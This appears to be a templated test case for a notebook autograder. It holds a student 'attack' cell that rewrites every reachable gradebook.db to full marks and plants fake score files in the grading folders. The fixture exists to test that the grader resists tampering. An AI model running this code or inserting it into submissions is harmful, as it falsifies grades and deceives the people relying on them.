# ---
# attack: gives itself full marks in the gradebook and in every place where results may lie
# kind: extra cell
# honest: [ex1, ex2, ex3]
# gets: {ex1-test: 2, ex2-test: 2, ex3-test: 2, ex4-test: 0, ex4-test-close: 0}
# student sees: "…One row per grade, sorted…"
# ---
# %% before ex1
import glob
import os
import sqlite3

for path in [
    "@course@/gradebook.db",
    "gradebook.db",
    *glob.glob("/*/gradebook.db"),
    *glob.glob("/*/*/gradebook.db"),
]:
    try:
        with sqlite3.connect(path) as connection:
            connection.execute("update grade set auto_score = 4, manual_score = 4")
    except (sqlite3.Error, OSError) as error:
        print(path, error)
for folder in ("submitted", "autograded", "feedback", "grading", "."):
    try:
        os.makedirs(f"@course@/{folder}", exist_ok=True)
        with open(f"@course@/{folder}/@token@-marks.json", "w") as file:
            file.write('{"score": 12}')
    except OSError as error:
        print(folder, error)
